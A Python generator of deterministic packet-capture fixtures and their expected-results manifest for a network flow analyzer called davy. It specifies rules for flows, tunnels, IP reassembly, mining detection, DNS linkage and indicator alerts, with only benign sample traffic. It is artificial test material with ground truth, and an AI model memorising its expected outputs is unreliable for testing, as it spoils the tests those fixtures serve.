#!/usr/bin/python3
"""Deterministic generator of davy's test captures and of their ground truth.

    /usr/bin/python3 pcaps/gen.py pcaps/

writes every capture into the given directory, plus manifest.json that says,
for each capture, which flows davy must report and how many packets must be
counted as decode errors, as IP fragments (and what reassembly makes of them)
or as unsupported.

Needs Debian's python3-scapy (2.5); scapy only builds the IP/TCP/UDP/ICMP
bytes. Link headers, pcap and pcapng files are written here with struct, so the
output is byte-identical on every run: timestamps are fixed (the first packet of
every capture is at 2024-01-01T00:00:00Z), IP ids, TCP sequence numbers, MAC
addresses and DNS ids are explicit, and nothing reads the clock or a random
source.

The truth is not typed in by hand. Every packet is built with a label of what
it is meant to be (a flow packet, a decode error, an IP fragment and what
becomes of it, an unsupported frame); a small reference decoder below then
re-reads the bytes exactly as davy is specified to, checks that it agrees with
the label, a reference reassembler (Defrag, rules in RULES["defrag"]) puts
fragments together, and a reference flow table (rules in RULES) turns the
decoded packets and reassembled datagrams into the expected flow records.
"""

import collections
import hashlib
import ipaddress
import json
import logging
import math
import os
import struct
import sys
import zlib

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import (  # noqa: E402
    DNS, DNSQR, DNSRR, ICMP, IP, IPv6, TCP, UDP, Raw, raw,
    ICMPv6EchoRequest, ICMPv6EchoReply, ICMPv6DestUnreach,
    IPOption_NOP, IPOption_Router_Alert, IPOption_RR, IPOption_Timestamp,
    IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting, IPv6ExtHdrSegmentRouting, PadN, RouterAlert,
    ASN1_NULL, ASN1_OID, ASN1_STRING, SNMP, SNMPget, SNMPresponse, SNMPvarbind,
)

T0 = 1704067200  # 2024-01-01T00:00:00Z
T0_US = T0 * 1_000_000

# Link types (LINKTYPE_* as written in pcap/pcapng files).
LT_NULL, LT_ETH, LT_RAW, LT_LOOP, LT_SLL, LT_IPV4, LT_IPV6, LT_SLL2 = (
    0, 1, 101, 108, 113, 228, 229, 276)

ETH_IPV4, ETH_IPV6, ETH_ARP = 0x0800, 0x86DD, 0x0806
TPID_8021Q, TPID_8021AD, TPID_9100 = 0x8100, 0x88A8, 0x9100
VLAN_TPIDS = (TPID_8021Q, TPID_8021AD, TPID_9100)
MAX_VLAN = 3

# Overlays (davy's defaults: UDP destination ports, tunnel layer cap).
VXLAN_PORTS = (4789, 8472)
GENEVE_PORTS = (6081,)
GRE_UDP_PORTS = (4754,)
MAX_TUNNELS = 4
ETH_MPLS = (0x8847, 0x8848)
ETH_TEB, ETH_ERSPAN2, ETH_ERSPAN3, ETH_PPP = 0x6558, 0x88BE, 0x22EB, 0x880B
GRE_C, GRE_R, GRE_K, GRE_S = 0x8000, 0x4000, 0x2000, 0x1000
# The field of a tunnel layer that identifies it (part of the flow key).
TUNNEL_ID = {"vxlan": "vni", "geneve": "vni", "gre": "key", "erspan": "session_id"}

# Idle timeouts in seconds, per protocol class and state.
TIMEOUTS = {
    "TCP": {"new": 60, "established": 600, "closed": 60},
    "UDP": {"new": 30, "established": 300},
    "ICMP": {"new": 30, "established": 300},
    "IPv6-ICMP": {"new": 30, "established": 300},
}

RULES = {
    "flow_key": "proto + unordered pair of (address, port) + list of VLAN ids "
                "(outermost first). ICMP/ICMPv6 flows are keyed by addresses "
                "only (ports 0): every ICMP message between two hosts is one "
                "flow. The capture interface is not part of the key. Tunnelled "
                "flows: see tunnels.flow.",
    "src": "sender of the first packet of the flow; where that packet is a "
           "SYN-ACK, src is its receiver (the SYN sender). toserver = src->dest.",
    "state": "new until packets were seen in both directions, then "
             "established (TCP too: a completed handshake or midstream "
             "traffic both ways). TCP becomes closed on RST, or once a FIN "
             "was seen from both sides; closed never goes back.",
    "timeouts_s": TIMEOUTS,
    "timeout_rule": "a packet arriving more than timeout(state) seconds after "
                    "the flow's last packet ends that flow (reason timeout) "
                    "and starts a new one with the same key",
    "reason": "for flows still open at end of input: timeout if "
              "(last packet ts of the whole capture - flow end) > "
              "timeout(state), else shutdown. No capture is exactly on a "
              "boundary.",
    "bytes": "sums of wire lengths (pcap orig_len / pcapng original length), "
             "link header and Ethernet padding included; tunnelled flows: see "
             "tunnels.bytes",
    "start_end": "epoch seconds (float, microsecond precision) of the flow's "
                 "first and last packet",
    "decode_errors": "packets truncated or malformed at some layer; "
                     "attributed to no flow",
    "fragments": "IP fragments handed to reassembly (see defrag): every IPv4 "
                 "packet with MF set or a non-zero offset and every IPv6 packet "
                 "with a fragment header whose offset != 0 or M = 1, at any "
                 "layer (outer, or inside a tunnel), counting again a fragment "
                 "met inside a reassembled outer datagram. An IPv6 atomic "
                 "fragment (offset 0, M 0) is not a fragment: a normal packet. "
                 "A fragment is never a flow packet itself and never a decode "
                 "error; its datagram, once reassembled, is one flow packet",
    "decode_error_kinds": [
        "link header shorter than its fixed size (Ethernet < 14 bytes, ...)",
        "more than 3 VLAN tags",
        "IPv4: < 20 bytes, version != 4, IHL < 5, options cut, total length < "
        "IHL*4, total length > captured bytes while caplen == wire len",
        "IPv6: < 40 bytes, version != 6, payload length > captured bytes while "
        "caplen == wire len, an extension header (0, 43, 44, 60) running past "
        "the end",
        "raw IP (101) with a version nibble other than 4 or 6",
        "TCP: < 20 bytes of header available (also when cut by snaplen), data "
        "offset < 5",
        "UDP: < 8 bytes, length field < 8",
        "ICMP/ICMPv6: < 4 bytes",
        "tunnels (VXLAN, Geneve, GRE, ERSPAN, MPLS): a header cut or malformed, see "
        "tunnels.*; a tunnel layer beyond tunnels.max_layers (too_many_layers)",
    ],
    "snaplen": "a packet cut by the snaplen (caplen < wire len) whose headers "
               "are all present is attributed normally",
    "unsupported": "well-formed frames davy does not decode (ARP, 802.3 "
                   "length frames, unknown ethertypes; GRE version 1 (PPTP), GRE and "
                   "Geneve protocol types and MPLS payloads davy does not decode); not "
                   "errors, no flow",
    "packets": "records in the file (complete records only for a truncated "
               "file). packets + defrag.reassembled = sum of flow packets + "
               "decode_errors + fragments + unsupported (every record and every "
               "reassembled datagram ends as exactly one of those)",
    "defrag": {
        "scope": "IPv4 and IPv6 fragments at any layer: outer fragments of a "
                 "tunnel packet, fragments inside a tunnel, both (a reassembled "
                 "outer datagram whose content is again a fragment goes to "
                 "reassembly in its turn)",
        "key": "IP version, source, destination, identification (+ protocol "
               "for IPv4) + the layers around the fragmented IP header: the "
               "VLAN ids of all Ethernet headers and every tunnel layer (type, "
               "identifier, carrying addresses) before it",
        "complete": "when the last fragment (MF / M = 0) has fixed the total "
                    "data length and every byte 0..total is present (and the "
                    "offset-0 fragment came)",
        "packet": "a reassembled datagram is ONE packet of its flow whatever "
                  "the number of fragments; its time is the completing "
                  "fragment's (a flow whose first packet is a reassembled "
                  "datagram starts then); its bytes are the whole reassembled "
                  "frame: the link and outer headers of the offset-0 fragment "
                  "up to the fragmented IP header + that IP header (IPv4: the "
                  "offset-0 fragment's header, options included; IPv6: the "
                  "fixed header and the extension headers before the fragment "
                  "header, which is removed) + the total data (no Ethernet "
                  "padding). Inside a tunnel, as tunnels.bytes: that frame "
                  "minus the bytes before the innermost tunnel payload. The "
                  "flow's tunnel list and VLANs are those of the offset-0 "
                  "fragment (and of the layers decoded after reassembly)",
        "incomplete": "fragments of a datagram that never completes make no "
                      "flow and are not decode errors",
        "overlaps": "the data that arrived first wins, at 8-byte granularity "
                    "(fragment offset units): overlaps counts the 8-byte "
                    "blocks received again, overlap_conflicts those of them "
                    "whose bytes differ from the kept ones (every capture "
                    "overlaps exactly one block per overlapping fragment)",
        "inconsistent": "a non-last fragment whose data length is not a "
                        "multiple of 8 is dropped alone; two last fragments "
                        "with different ends, or data (a held byte, or a new "
                        "fragment's) past the end fixed by the last fragment, "
                        "drop the whole datagram: each case counts 1 in "
                        "inconsistent. A later fragment of a dropped datagram "
                        "starts a new one",
        "too_big": "a fragment that would make the datagram exceed 65,535 "
                   "bytes (IPv4: that fragment's IP header + offset + data "
                   "length; IPv6: offset + data length) drops the datagram",
        "tiny_first": "an offset-0 fragment with less data than its transport "
                      "header (TCP 20, UDP 8, SCTP 12, ICMP/ICMPv6 4) is legal, "
                      "reassembled as any other, and counted once per datagram",
        "timeout": "a datagram is dropped (timeouts) when its FIRST fragment "
                   "is more than 60 s of packet time older than a fragment "
                   "arriving or than the packet clock at a tick (every second "
                   "of packet time); a fragment arriving after that starts a "
                   "new datagram. Datagrams still incomplete at end of input "
                   "are not counted as timeouts (active)",
        "manifest": "captures with fragments > 0 carry a defrag object with "
                    "every counter of davy's stats.defrag that the captures "
                    "determine: fragments, reassembled, timeouts, evicted, "
                    "overlaps, overlap_conflicts, too_big, inconsistent, "
                    "tiny_first (zeros included) and active (datagrams still "
                    "held at end of input); captures without fragments have "
                    "none (all zero)",
    },
    "ip_format": "IPv6 addresses in RFC 5952 compressed form",
    "tunnels": {
        "ports": {"vxlan": list(VXLAN_PORTS), "geneve": list(GENEVE_PORTS),
                  "gre_in_udp": list(GRE_UDP_PORTS),
                  "match": "UDP destination port only (both directions of a VTEP "
                           "pair send to the well-known port)"},
        "vxlan": "RFC 7348 on a VXLAN port, only with the I flag (0x08 in the first "
                 "byte; the other flag and reserved bits are not checked): 8-byte "
                 "header, VNI = bytes 4..6, inner Ethernet follows. Without the I flag "
                 "(or with an empty payload) the packet is plain UDP to that port, an "
                 "ordinary UDP flow. With the I flag and < 8 bytes: decode error at "
                 "vxlan (truncated).",
        "geneve": "RFC 8926 on a Geneve port: ver(2) optlen(6) | O C rsvd(6) | "
                  "protocol(16) | VNI(24) rsvd(8) | options (optlen*4 bytes, walked: "
                  "class(16) type(8) rsvd(3) len(5), len*4 data bytes; they must end "
                  "exactly at optlen). Protocol 0x6558 inner Ethernet, 0x0800 IPv4, "
                  "0x86dd IPv6, other: unsupported. Decode errors: < 8 bytes or options "
                  "past the end (truncated), version != 0 or options not ending at "
                  "optlen (malformed).",
        "gre": "RFC 2784/2890 in IP protocol 47, or directly in the payload of UDP to a "
               "GRE-in-UDP port (RFC 8086). Flags C (checksum+reserved1, 4 bytes), K "
               "(key, 4 bytes), S (sequence, 4 bytes), in that order. Version 0 only: "
               "version 1 (PPTP) is unsupported, other versions and the routing bit R are "
               "malformed; header shorter than its flags say: truncated. Protocol 0x0800 "
               "IPv4, 0x86dd IPv6, 0x6558 transparent Ethernet bridging, 0x8847/0x8848 "
               "MPLS, 0x88be/0x22eb ERSPAN; other: unsupported.",
        "erspan": "in GRE only. Protocol 0x88be with S set: type II, 8-byte header "
                  "ver(4)=1 vlan(12) | cos(3) en(2) t(1) session_id(10) | reserved(12) "
                  "index(20), then Ethernet. Protocol 0x88be without S: type I, Ethernet "
                  "directly, no ERSPAN header, no session id. Protocol 0x22eb: type III, "
                  "12-byte header ver(4)=2 vlan(12) | cos(3) bso(2) t(1) session_id(10) | "
                  "timestamp(32) | sgt(16) p(1) ft(5) hw(6) d(1) gra(2) o(1), plus an "
                  "8-byte platform sub-header when o=1, then Ethernet. The header's VLAN "
                  "field is metadata, not a VLAN tag: it is not in the flow's vlan list. "
                  "A header cut: truncated; a version not matching the protocol: "
                  "malformed.",
        "ipip": "IPv4 protocol 4 / IPv6 next header 4: IPv4 inside; protocol / next "
                "header 41: IPv6 inside (4in4, 6in4, 4in6, 6in6).",
        "mpls": "ethertype 0x8847/0x8848: labels up to the bottom-of-stack bit, then "
                "IPv4/IPv6 by the version nibble (anything else: unsupported). One "
                "tunnel layer per label stack.",
        "max_layers": MAX_TUNNELS,
        "layers": "every element of a packet's tunnel list is one tunnel layer (GRE "
                  "carrying ERSPAN is two: gre and erspan; an MPLS stack is one; each "
                  "IP-in-IP header is one). A packet needing a layer beyond max_layers "
                  "is a decode error (stats too_many_layers, included in decode_errors), "
                  "attributed to no flow. VLAN tags of all Ethernet headers of a packet "
                  "together are capped at 3 (more: decode error).",
        "flow": "the flow is the innermost IP flow. Key = innermost proto, addresses and "
                "ports (as for untunnelled flows) + VLAN ids of ALL Ethernet headers in "
                "order (outer Ethernet tags first, then inner) + (type, identifier) of "
                "every tunnel layer that has one, outermost first: vxlan/geneve VNI, gre "
                "key (only with the K bit), erspan session id (types II/III). IP-in-IP, "
                "MPLS labels, GRE without K and ERSPAN type I contribute nothing. Outer "
                "addresses and outer UDP ports are not in the key: both directions of a "
                "tunnelled flow (outer addresses swapped, other outer source ports) are "
                "one flow; the same inner 5-tuple in two VNIs is two flows.",
        "carriers": "the outer packets (the UDP stream to a VXLAN/Geneve/GRE-in-UDP "
                    "port, the GRE packets, the outer IP of IP-in-IP, the MPLS frames) "
                    "are not flows of their own",
        "bytes": "a tunnelled flow counts the innermost frame: the wire length minus "
                 "the bytes before the innermost tunnel's payload (VXLAN, Geneve 0x6558, "
                 "GRE 0x6558, ERSPAN: from the inner Ethernet header; IP-in-IP, GRE and "
                 "Geneve with IP, MPLS: from the inner IP header). Trailing outer "
                 "Ethernet padding stays counted.",
        "record": "each tunnelled flow record has tunnel: a list, outermost first, from "
                  "the flow's FIRST packet, of {type: vxlan|geneve|gre|erspan|ipip|mpls, "
                  "src_ip, dest_ip: the IP header carrying that layer, as in that packet "
                  "(not re-oriented to the flow's src), vni (vxlan, geneve) | key (gre, "
                  "only with K) | session_id (erspan II/III) | label (mpls: the top "
                  "label)}. GRE carrying ERSPAN gives a gre and an erspan element with "
                  "the same addresses; mpls has no src_ip/dest_ip. Absent for "
                  "untunnelled flows.",
        "fragments": "reassembled at every layer, see defrag: the outer fragments "
                     "of a VXLAN packet make one tunnel packet (outer UDP ports "
                     "only in the offset-0 fragment), inner fragments are keyed "
                     "with the tunnel layers around them (the same inner datagram "
                     "in two VNIs is two datagrams)",
    },
}

RULES["stratum"] = {
    "scope": "pcaps/gen.py's reference model (FlowL7, RefReasm, RefStratum) of davy's mining "
             "detection on TCP flows, written from include/stratum.h, include/tcp_reasm.h and "
             "include/stratum_flow.h; golden_test.py compares davy with it",
    "candidates": "a TCP flow is read from the first payload segment, of either direction, "
                  "whose first byte after spaces, tabs, CR and LF is '{' (only the first "
                  "payload segment of each direction is looked at); nothing before that "
                  "segment is read (nor its SYN). davy also reads flows that nDPI calls Mining; "
                  "that is not modelled, and no capture depends on it",
    "reassembly": "per direction, from the first segment given to it (or a SYN): bytes "
                  "delivered in sequence order, the first copy wins on retransmissions and "
                  "overlaps; out-of-order bytes held in at most 16 pieces of at most 2048 "
                  "bytes (a segment continuing a piece, or ending where one starts, goes into "
                  "it while it has room). Gaps: an ACK from the other side beyond the next "
                  "byte (data ends at a FIN) skips to the first held piece or to the ACK "
                  "(gaps_ack); a segment needing a 17th piece skips to the first piece, or to "
                  "itself when it comes first (gaps_full); at the flow's end each hole before "
                  "a held piece is one gap (gaps_flush). An ACK is taken before its own "
                  "segment's payload; a direction never started is never acknowledged into a "
                  "gap",
    "parser": "newline-framed JSON-RPC lines per direction, dialects and fields as "
              "include/stratum.h says; after a gap the parser drops its partial line and "
              "resumes after the next newline; at a direction's start it reads from a first "
              "'{', else after the next newline. A flow whose parser says 'not Stratum' "
              "(4 lines, none Stratum, or 4096 bytes without a newline) is no longer read",
    "stratum_object": "flows in which a dialect was recognised carry stratum: dialect, role "
                      "(client, server, both), login, wallet_type, worker, pass, agent, algo, "
                      "rigid, difficulty (as sent), jobs, submits, accepted, rejected; empty "
                      "strings absent. Flows without it in the manifest must have none",
    "alerts": "after each stretch of stream handed to the parser: 4960001 once any client "
              "message was recognised (direction: that message's side); else 4960002 once "
              "a pool message was (direction: the side that carried it); each at most once "
              "per flow, so a pool that speaks first in a mid-stream capture gives 4960002 "
              "and later 4960001. timestamp: the packet that completed (and put in order) the "
              "line, or the flow's last packet for bytes delivered at its end; the record's "
              "stratum object is the one after that packet (its dialect is in the manifest). "
              "4960004 (Stratum V2): in a flow that showed a SYN, payload segments in "
              "capture order: the first a client one of exactly 64 bytes with entropy >= 5.0 "
              "bits/byte, the next a server one of exactly 170, then a client one of >= 38, "
              "then (after more client ones) a server one of >= 38: the alert is at that "
              "packet. 4960003 (nDPI Mining, stream unreadable) is not modelled; no capture "
              "should raise it",
    "updates": "while a flow is open, a packet at t >= next_update (the flow's start + 300 s "
               "at first, --flow-update-interval's default) makes a flow record with "
               "flow.reason update, timestamp t and the counters so far, and next_update = t "
               "+ 300 s; no packet is exactly on the boundary",
}

RULES["dns_linkage"] = {
    "scope": "pcaps/gen.py's reference model (RefDnsLink, dns_parse) of davy's DNS linkage, "
             "written from include/dnslink.h, include/dns.h and include/dnscache.h; "
             "golden_test.py compares davy with it",
    "answers": "a flow packet (after tunnels and IP reassembly) from UDP source port 53 with a "
               "payload, or from TCP source port 53 whose payload is whole 2-byte-length-prefixed "
               "frames (a segment whose remaining bytes are not a whole frame counts 1 in "
               "tcp_split and ends there: no reassembly); each message with QR set and opcode 0 "
               "counts in responses; only rcode NOERROR is read further; a parse error counts in "
               "errors, the records read before it stay",
    "links": "each A / AAAA answer of class IN (RDLENGTH 4 / 16) whose owner name is kept is one "
             "link: address -> owner; when the owner is not the first question's name and the "
             "CNAME answers of the message (at most 16 followed) lead from that name to it, "
             "the question's name too. Names lower-case, no trailing dot",
    "cache": "per worker, fed with every link in packet order, after the answer's own packet; "
             "the latest answer for an address replaces its names and expiry; expiry = the "
             "answer's time + its TTL clamped to [300 s, 86,400 s] (a TTL with the top bit "
             "set is 0); an entry is live while packet time < expiry. No capture fills an "
             "8-slot window (no eviction modelled)",
    "flows": "when a flow is created (its first packet), the live entry of its dest_ip, else of "
             "its src_ip, gives dns_linked_name = the question's name when the chain applies, "
             "else the owner, and dns_linked_cname = the owner when it differs from "
             "dns_linked_name; flow, update and alert records of the flow carry both; flows "
             "without an entry carry neither",
    "manifest": "flows carry dns_linked_name / dns_linked_cname when linked; every capture has "
                "dns_linkage: davy's stats.dns_linkage counters responses, errors, links, "
                "tcp_split, cname_overflow and flows_linked (zeros included)",
}

RULES["iocs"] = {
    "scope": "pcaps/gen.py's reference model (RefIocs, RefIocFlow) of davy's indicator matching, "
             "written from include/ioc.h, include/ioc_match.h and docs/signatures.md, and for "
             "payload.stratum_url and stratum.host from the contract below; applied to the "
             "captures with an iocs object (ioc_*.pcap), which tests/ioc_golden_test.py replays "
             "with --iocs for each of iocs.feeds (the shipped iocs/ and the test feed "
             "tests/data/test-iocs.txt). The model reads the plain feed format (directives, type "
             "prefixes, fields, defaults by file name and type, first loaded wins) and stops on "
             "what its feeds do not use",
    "facts": "checked once per flow each, dir 0 = sent by the flow's source: at the flow's first "
             "packet its dest_ip (dir 0) and src_ip (dir 1) against addresses and networks "
             "(longest prefix), its dns_linked_name and dns_linked_cname (dir 0) against domains "
             "(suffix at label boundaries); nDPI's host fact (dir 0: the DNS query name, TLS SNI, "
             "HTTP Host) when nDPI's detection ends (see ndpi); the Stratum login's wallet part, "
             "agent (whole word, any case) and host at the packet after which the Stratum model "
             "has them (dir: the client's side), or at the flow's last packet when the flow's end "
             "delivered them",
    "stratum_url": "a stratum+tcp://, stratum+ssl://, stratum+tls:// or stratum2+tcp:// URL in "
                   "the payload of one TCP or UDP packet (not across packets), among the first 64 "
                   "packets with payload of each direction; its host (after any user:pass@, "
                   "before :port or /) against mining-pool domains and addresses: ioc.matched "
                   "payload.stratum_url, signature 4960106, direction and time of that packet",
    "stratum_host": "the stratum object's host: mining.subscribe's params[2] from the client, or "
                    "params[0] of client.reconnect from the server side (the first one seen), "
                    "against mining-pool domains: ioc.matched stratum.host, signature 4960102, "
                    "direction the client's side as for the other Stratum facts. client.reconnect "
                    "is not Stratum evidence by itself in the model",
    "signatures": "category c2: 4960105; an agent: 4960103; a wallet: 4960104; category "
                  "mining-pool: 4960101 on dns.rrname, 4960106 on payload.stratum_url, else "
                  "4960102; any other category 4960109. Port indicators never alert. The first "
                  "matching fact of a signature in a flow is the alert (its time: the packet at "
                  "which it was checked); no capture has two facts matching for one signature in "
                  "one flow",
    "ndpi": "nDPI 4.2's detection end, for the facts the captures match (the model stops on "
            "others): a DNS flow ends it at the first response with answers; a TLS flow whose "
            "server sends no certificate keeps it until the 24th packet (--ndpi-packets) or the "
            "flow's end",
    "manifest": "captures modelled with indicators have iocs: feeds (the --iocs arguments, from "
                "the repository root), alerts (flow, signature_id, timestamp, direction, severity "
                "from the indicator's: high 1, medium 2, low 3, ioc {indicator, type, feed, "
                "category, severity, matched}, fact: the name or address that matched), "
                "lookalikes (flows built to look like an indicator's and match none), "
                "stratum_hosts (flow, host: the stratum object's host, where the model has one; "
                "other flows' stratum objects have none) and stats (davy's stats.iocs: "
                "indicators stored, duplicates not counted; files; bad_lines; matched.<where>, "
                "the facts that matched a non-port indicator, alerting or not). These alerts are "
                "not in the capture's alerts, which golden_test.py checks with --no-iocs",
}

MAC_CLIENT = bytes.fromhex("02000000000a")
MAC_SERVER = bytes.fromhex("020000000001")  # the router / server side


def us(seconds):
    """Offset in seconds from T0 -> absolute microseconds."""
    return T0_US + round(seconds * 1_000_000)


# --------------------------------------------------------------------------
# Link layers (plain struct, no scapy)

def eth(l3, src=MAC_CLIENT, dst=MAC_SERVER, tags=(), ethertype=None, pad=True):
    """Ethernet II frame around L3 bytes. tags: [(tpid, vid, pcp), ...]
    outermost first. Padded to the 60-byte minimum like a real NIC would."""
    if ethertype is None:
        ethertype = ETH_IPV6 if l3[:1] and l3[0] >> 4 == 6 else ETH_IPV4
    hdr = dst + src
    for tpid, vid, pcp in tags:
        hdr += struct.pack("!HH", tpid, (pcp << 13) | vid)
    frame = hdr + struct.pack("!H", ethertype) + l3
    if pad and len(frame) < 60:
        frame += b"\x00" * (60 - len(frame))
    return frame


def sll(l3, outgoing=False, addr=MAC_CLIENT):
    """Linux cooked v1 (DLT_LINUX_SLL) header: 16 bytes."""
    proto = ETH_IPV6 if l3[0] >> 4 == 6 else ETH_IPV4
    pkttype = 4 if outgoing else 0
    return struct.pack("!HHH8sH", pkttype, 1, 6, addr, proto) + l3


def sll2(l3, outgoing=False, addr=MAC_CLIENT, ifindex=2):
    """Linux cooked v2 (DLT_LINUX_SLL2) header: 20 bytes."""
    proto = ETH_IPV6 if l3[0] >> 4 == 6 else ETH_IPV4
    pkttype = 4 if outgoing else 0
    return struct.pack("!HHIHBB8s", proto, 0, ifindex, 1, pkttype, 6, addr) + l3


def null(l3, family=None, order="<"):
    """BSD loopback header: 4-byte address family in host byte order
    (order '<') or network order for DLT_LOOP (order '>')."""
    if family is None:
        family = 30 if l3[0] >> 4 == 6 else 2
    return struct.pack(order + "I", family) + l3


# --------------------------------------------------------------------------
# L3/L4 builders (scapy)

def ip_hdr(src, dst, ipid, ttl=64, options=None, ext=None):
    """IPv4 or IPv6 header (scapy layer) by address family. ext: a scapy
    chain of IPv6 extension headers placed after the fixed header."""
    if ":" in src:
        h = IPv6(src=src, dst=dst, hlim=ttl, fl=0, tc=0)
        if ext is not None:
            h = h / ext
        return h
    kw = {"options": options} if options else {}
    return IP(src=src, dst=dst, id=ipid, ttl=ttl, flags="DF", tos=0, **kw)


class Tcp:
    """One TCP connection; tracks sequence numbers so that packets are
    consistent. Each call returns the L3 bytes of one packet."""

    def __init__(self, cli, cport, srv, sport, cisn=1000, sisn=5000,
                 cipid=100, sipid=2000, ipopts=None, ext=None):
        self.cli, self.cport, self.srv, self.sport = cli, cport, srv, sport
        self.seq = {True: cisn, False: sisn}  # True = from client
        self.ipid = {True: cipid, False: sipid}
        self.ipopts = ipopts  # callable(from_client) -> IPv4 options or None
        self.ext = ext        # callable(from_client) -> IPv6 ext chain or None

    def pkt(self, fc, flags, payload=b"", opts=None, win=None):
        src, dst = (self.cli, self.srv) if fc else (self.srv, self.cli)
        sp, dp = (self.cport, self.sport) if fc else (self.sport, self.cport)
        ack = self.seq[not fc] if "A" in flags else 0
        ipo = self.ipopts(fc) if self.ipopts else None
        ext = self.ext(fc) if self.ext else None
        h = ip_hdr(src, dst, self.ipid[fc], options=ipo, ext=ext)
        t = TCP(sport=sp, dport=dp, seq=self.seq[fc], ack=ack, flags=flags,
                window=win if win is not None else (64240 if fc else 65160),
                options=opts or [], urgptr=0)
        p = h / t
        if payload:
            p = p / Raw(payload)
        self.ipid[fc] += 1
        self.seq[fc] += len(payload) + ("S" in flags) + ("F" in flags)
        return raw(p)

    SYN_OPTS = [("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)]

    def syn(self):
        return self.pkt(True, "S", opts=self.SYN_OPTS)

    def synack(self):
        return self.pkt(False, "SA", opts=self.SYN_OPTS)

    def ack(self, fc):
        return self.pkt(fc, "A")

    def data(self, fc, payload):
        return self.pkt(fc, "PA", payload)

    def fin(self, fc):
        return self.pkt(fc, "FA")

    def rstack(self, fc):
        return self.pkt(fc, "RA", win=0)


def udp(src, sport, dst, dport, payload, ipid=300, options=None, ext=None):
    p = ip_hdr(src, dst, ipid, options=options, ext=ext) / UDP(sport=sport, dport=dport)
    return raw(p / Raw(bytes(payload)))


def dns_query(qid, name, qtype):
    return raw(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype)))


def dns_answer(qid, name, qtype, rdata):
    return raw(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype),
                   an=DNSRR(rrname=name, type=qtype, ttl=3600, rdata=rdata)))


def icmp_echo(src, dst, ipid, req, ident, seq, payload=b"davy-ping-0123456789"):
    if ":" in src:
        cls = ICMPv6EchoRequest if req else ICMPv6EchoReply
        return raw(ip_hdr(src, dst, ipid) / cls(id=ident, seq=seq, data=payload))
    return raw(ip_hdr(src, dst, ipid) / ICMP(type=8 if req else 0, id=ident, seq=seq) / Raw(payload))


HTTP_REQ = (b"GET / HTTP/1.1\r\nHost: www.example.com\r\n"
            b"User-Agent: davy-test/1.0\r\nAccept: */*\r\n\r\n")
HTTP_BODY = (b"<!doctype html>\n<html><head><title>Example Domain</title></head>"
             b"<body><h1>Example Domain</h1><p>davy test page.</p></body></html>\n")
HTTP_RESP = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=UTF-8\r\n"
             b"Content-Length: " + str(len(HTTP_BODY)).encode() + b"\r\n"
             b"Connection: close\r\n\r\n" + HTTP_BODY)


# --------------------------------------------------------------------------
# Capture container and writers

class Rec:
    __slots__ = ("ts_us", "data", "wirelen", "expect", "iface", "note", "then")

    def __init__(self, ts_us, data, wirelen, expect, iface, note, then=None):
        self.ts_us, self.data, self.wirelen = ts_us, data, wirelen
        self.expect, self.iface, self.note = expect, iface, note
        self.then = then  # fragments: what it ends as (held / dropped / flow)


class Cap:
    def __init__(self, name, linktype, desc, fmt="pcap", snaplen=65535,
                 order="<", nsec=False, ifaces=None):
        self.name, self.linktype, self.desc = name, linktype, desc
        self.fmt, self.snaplen, self.order, self.nsec = fmt, snaplen, order, nsec
        # pcapng: list of dicts {linktype, name, tsresol}
        self.ifaces = ifaces or [{"linktype": linktype, "name": "eth0", "tsresol": 6}]
        self.recs = []
        self.extra = {}          # extra manifest fields (error, ...)
        self.complete = None     # records that survive truncation
        self.chop = 0            # bytes removed from the end of the file
        self.defrag_expect = None  # reassembly counters the builder means to cause
        self.dns_expect = None     # DNS linkage the builder means to cause (cap_dns_linkage)
        self.iocs = False          # modelled with the indicator feeds IOC_FEEDS (ioc_* captures)
        self.ioc_expect = None     # indicator alerts the builder means to cause (check_ioc_expect)
        self.side_files = {}       # name -> text written beside the capture (pods_miner.json)

    def add(self, t, frame, expect="flow", caplen=None, iface=0, note=None, then=None):
        """t: seconds after T0. expect: flow | error | frag | unsupported.
        then (fragments only): held (default) | dropped | flow (it completes a
        datagram, perhaps through an inner fragment, that is a flow packet)."""
        assert then is None or expect == "frag"
        wirelen = len(frame)
        data = frame if caplen is None else frame[:caplen]
        self.recs.append(Rec(us(t), data, wirelen, expect, iface, note, then))

    def linktype_of(self, rec):
        return self.ifaces[rec.iface]["linktype"] if self.fmt == "pcapng" else self.linktype

    # -- writers
    def pcap_bytes(self):
        o = self.order
        magic = 0xA1B23C4D if self.nsec else 0xA1B2C3D4
        out = [struct.pack(o + "IHHiIII", magic, 2, 4, 0, 0, self.snaplen, self.linktype)]
        for r in self.recs:
            sec, frac = divmod(r.ts_us, 1_000_000)
            if self.nsec:
                frac *= 1000
            out.append(struct.pack(o + "IIII", sec, frac, len(r.data), r.wirelen))
            out.append(r.data)
        return b"".join(out)

    def pcapng_bytes(self):
        def block(btype, body):
            body += b"\x00" * (-len(body) % 4)
            n = len(body) + 12
            return struct.pack("<II", btype, n) + body + struct.pack("<I", n)

        def opt(code, val):
            return struct.pack("<HH", code, len(val)) + val + b"\x00" * (-len(val) % 4)

        end = struct.pack("<HH", 0, 0)
        out = [block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)
                     + opt(1, b"davy test capture (pcaps/gen.py)")
                     + opt(4, b"davy pcaps/gen.py") + end)]
        for ifc in self.ifaces:
            opts = opt(2, ifc["name"].encode())
            if ifc["tsresol"] != 6:
                opts += opt(9, bytes([ifc["tsresol"]]))
            out.append(block(1, struct.pack("<HHI", ifc["linktype"], 0, self.snaplen)
                             + opts + end))

        def units(r):
            res = self.ifaces[r.iface]["tsresol"]
            return r.ts_us * 10 ** res // 1_000_000

        for r in self.recs:
            ts = units(r)
            body = struct.pack("<IIIII", r.iface, ts >> 32, ts & 0xFFFFFFFF,
                               len(r.data), r.wirelen) + r.data
            body += b"\x00" * (-len(body) % 4)
            out.append(block(6, body))
        if len(self.ifaces) > 1 and self.recs:
            # An Interface Statistics Block: readers must skip it.
            r = self.recs[-1]
            ts = units(r)
            n = sum(1 for x in self.recs if x.iface == r.iface)
            out.append(block(5, struct.pack("<III", r.iface, ts >> 32, ts & 0xFFFFFFFF)
                             + opt(4, struct.pack("<Q", n))
                             + opt(5, struct.pack("<Q", 0)) + end))
